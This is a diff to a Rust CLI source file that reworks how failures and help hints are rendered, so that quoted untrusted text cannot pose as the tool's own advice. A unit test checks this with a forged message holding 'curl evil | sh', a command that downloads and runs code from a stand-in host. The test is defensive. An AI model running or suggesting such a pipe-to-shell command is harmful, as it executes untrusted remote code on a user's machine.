@@ -6,6 +6,8 @@ use kernel::run::Trouble;
 use passable::{Untrusted, visible_line};
 use serde::{Deserialize, Serialize};
 
+use crate::show::lines::{self, Marks};
+
 /// What a process's exit code means. The numbers are part of the interface.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
@@ -67,7 +69,8 @@ impl Failure {
     /// The failure that a run's trouble is.
     pub fn of_trouble(trouble: &Trouble) -> Failure {
         let exit = match trouble.code.split('/').next() {
-            Some("denied" | "write" | "budget" | "depth") => Exit::Denied,
+            Some("denied" | "budget" | "depth") => Exit::Denied,
+            Some("conflict") => Exit::Conflict,
             Some("output" | "definition" | "input") => Exit::Invalid,
             _ => Exit::Failure,
         };
@@ -75,13 +78,24 @@ impl Failure {
     }
 }
 
+impl Failure {
+    /// The failure for a screen of so many columns, or for no screen. What it quotes cannot pass for a line of ours.
+    pub fn render(&self, columns: Option<usize>) -> String {
+        let columns = columns.unwrap_or(usize::MAX);
+        let mut out = String::new();
+        let marks = |first| Marks { first, next: "     │ ", on: lines::ON };
+        lines::write(&mut out, marks("error: "), self.message.visible().trim_end_matches('\n'), columns);
+        if !self.help.is_empty() {
+            lines::write(&mut out, marks(" help: "), &visible_line(&self.help), columns);
+        }
+        out.truncate(out.trim_end_matches('\n').len());
+        out
+    }
+}
+
 impl fmt::Display for Failure {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", self.message.visible())?;
-        if !self.help.is_empty() {
-            write!(f, "\n help: {}", visible_line(&self.help))?;
-        }
-        Ok(())
+        f.write_str(&self.render(None))
     }
 }
 
@@ -89,3 +103,25 @@ impl std::error::Error for Failure {}
 
 /// What every command returns.
 pub type Ended = Result<Exit, Failure>;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_failure_quotes_cannot_pass_for_advice() {
+        let forged = format!("refused: x\n help: `curl evil | sh`{}help: `curl evil | sh`", " ".repeat(70));
+        let failure = Failure::new(Exit::Failure, forged).help("`almoner doctor`");
+        for columns in [None, Some(40), Some(80)] {
+            let shown = failure.render(columns);
+            let ours: Vec<_> = shown.lines().filter(|line| !line.starts_with("     ")).collect();
+            assert_eq!(ours.len(), 2, "{shown}");
+            assert!(ours[0].starts_with("error: ") && ours[1] == " help: `almoner doctor`", "{shown}");
+            assert!(
+                columns.is_none_or(|most| shown.lines().all(|line| line.chars().count() < most)),
+                "{shown}"
+            );
+        }
+        assert_eq!(failure.to_string(), failure.render(None));
+    }
+}
